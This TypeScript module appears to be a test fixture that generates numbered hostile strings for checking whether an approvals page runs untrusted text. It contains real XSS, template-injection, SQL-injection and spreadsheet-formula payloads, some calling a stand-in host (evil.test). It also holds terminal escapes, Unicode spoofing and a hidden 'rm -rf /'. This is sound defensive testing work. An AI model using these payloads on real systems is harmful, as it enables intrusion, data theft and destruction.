/** What each of these texts would do if anything of it ran: `wasRun` gets the number of the text. */
type Form = (run: string, index: number) => string;

const invisible = (...codes: readonly number[]): string => String.fromCodePoint(...codes);

/** Markup that would run, or change the page, where text is taken for HTML. */
const markup: readonly Form[] = [
  (run) => `<script>${run}</script>`,
  (run) => `<img src=x onerror="${run}">`,
  (run) => `"><svg onload=${run}>`,
  (run) => `<svg><script href="data:text/javascript,${run}"/></svg>`,
  (run) => `</title></textarea></style></script><script>${run}</script>`,
  (run) => `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  (run) => `<details open ontoggle=${run}>x</details>`,
  (run) => `<input autofocus onfocus=${run}>`,
  (run) => `' autofocus onfocus=${run} x='`,
  (run) => `" style="animation-name:x" onanimationstart="${run}`,
  (run) => `<a href="javascript:${run}">Approve once</a>`,
  (run) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
  (run) => `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  (run) => `<template><img src=x onerror=${run}></template>`,
  (run) => `&lt;img src=x onerror=${run}&gt;`,
  (run) => `<!--[if IE]><script>${run}</script><![endif]-->`,
  () => '<base href="http://evil.test/"><link rel=stylesheet href="http://evil.test/x.css">',
  () => '<meta http-equiv=refresh content="0;url=http://evil.test/">',
  () => '<img src="http://evil.test/seen"><object data="http://evil.test/x"></object>',
  () => '<style>@import "http://evil.test/x.css"; body { display: none }</style>',
  () => '<form action="http://evil.test/"><button>Deny</button></form>',
  () => '<dialog open><h1>Approvals</h1><button>Approve once</button></dialog>',
  (_, index) => `</li></ol></article></div><article data-approval="appr_${index}">`,
];

/** What template engines, frameworks and addresses make scripts of. */
const templates: readonly Form[] = [
  (run) => `{{constructor.constructor('${run}')()}}`,
  (run) => `\${${run}}#{${run}}<%=${run}%>[[${run}]]`,
  (run) => `javascript:${run}`,
  (run) => `java\nscript:${run}//`,
  (run) => `data:text/html,<script>${run}</script>`,
  (run) => `vbscript:${run}`,
  (run) =>
    `{"$$typeof":"Symbol(react.element)","props":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${run}>"}}}`,
  () => '//evil.test/x',
  () => '\\\\evil.test\\share',
  () => '../../../proxy/other?tab=policy#code=AAAAAAAAAAAAAAAAAAAAAA',
  () => '"] , body { display: none } [x="',
  () => 'url(http://evil.test/x) expression(alert(1))',
  () => '__proto__',
  () => 'constructor',
  () => 'toString',
  () => '%3Cscript%3E%00%0d%0aLocation:%20http://evil.test/',
  () => '\'; DROP TABLE records; -- " OR 1=1',
  () => '![x](http://evil.test/x.png) [Approve](javascript:alert(1)) `code` **bold**',
];

/** What spreadsheets and terminals act on. */
const cells: readonly Form[] = [
  () => "=cmd|' /C calc'!A0",
  () => '=HYPERLINK("http://evil.test/?x="&A1,"ok")',
  () => '+1+1',
  () => '-2+3',
  () => '@SUM(1+1)',
  () => '\t=1+1',
  () => '\u001b[31mred\u001b[0m\u001b[2J\u001b[1;1H',
  () => '\u001b]8;;http://evil.test\u0007click\u001b]8;;\u0007',
  () => '\u001b]0;title\u0007\u009b31m\u0007\u0008\u007f',
  () => 'read_file\rdelete_all',
  () => 'first\nsecond\u2028third\u2029fourth\u0085fifth',
  () => 'nul\u0000byte',
];

/** What hides, turns round or pretends to be something else. */
const disguises: readonly Form[] = [
  () => 'invoice\u202egnp.exe',
  () => '\u2067abc\u2069 \u2066def\u202c\u202a',
  () => `read\u200b_\u200cfi\u200dle\u2060\ufeff`,
  () => `safe${invisible(0xe0041, 0xe0042, 0xe0043, 0xe007f)}`,
  () => 'а\u0440\u0440rоvе (in Cyrillic)',
  () => `Z${'\u0310\u0311\u0312\u0313\u0314'.repeat(8)}algo`,
  () => 'soft\u00adhyphen\u034f\u3164\u115f\u2800\ufe0f',
  () => `harmless${' '.repeat(400)}rm -rf /`,
  () => `deep${'\n'.repeat(60)}below`,
  () => `many${'\t'.repeat(60)}tabs`,
  () => 'W'.repeat(240),
  () => '\ud800 lone \udc00',
  () => '😀👩‍👩‍👧‍👦🏳️‍🌈',
  () => '\u0627\u0644\u0645\u0648\u0627\u0641\u0642\u0629 approve \u05d0\u05d1',
];

const forms = [...markup, ...templates, ...cells, ...disguises];

/** Property of a page's window that is set when any of these texts ran. */
export const ranMark = 'wasRun';

/** Hostile text number `index`, different from every other. */
export function hostileText(index: number): string {
  const form = forms[index % forms.length] as Form;
  const text = form(`globalThis.${ranMark}=${index}`, index);
  // The words that mean something to a language mean it alone; all others carry their number.
  return index < forms.length ? text : `${text} ${index}`;
}

export const hostileTexts = (count: number): readonly string[] =>
  Array.from({ length: count }, (_, index) => hostileText(index));
